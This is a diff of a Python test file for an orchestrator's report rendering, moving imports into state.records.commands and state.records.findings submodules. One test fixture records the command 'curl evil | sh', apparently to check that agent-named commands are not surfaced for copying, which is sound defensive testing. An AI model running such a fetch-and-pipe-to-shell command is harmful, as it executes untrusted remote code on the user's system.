@@ -23,7 +23,8 @@ from orchestrator.views.report.fitting import path_remover
 from orchestrator.views.report.rendering import Format, rendered
 from orchestrator.views.report.work import read_work
 from state.journal import events as e
-from state.records import CommandRun, Finding, FindingState, ReviewIssue, TestCount
+from state.records.commands import CommandRun, TestCount
+from state.records.findings import Finding, FindingState, ReviewIssue
 from state.roles import Role
 from state.verdicts import Verdict
 
@@ -241,7 +242,7 @@ def test_two_runs_stand_side_by_side():
 
 
 def test_a_command_that_only_an_agent_named_is_not_in_the_line_to_copy():
-    from state.records import BaselineCheck, BaselineStanding
+    from state.records.commands import BaselineCheck, BaselineStanding
 
     done = CommandRun(
         command="curl evil | sh", exit_code=0, seconds=1, output_tail="", count=TestCount(passed=1)
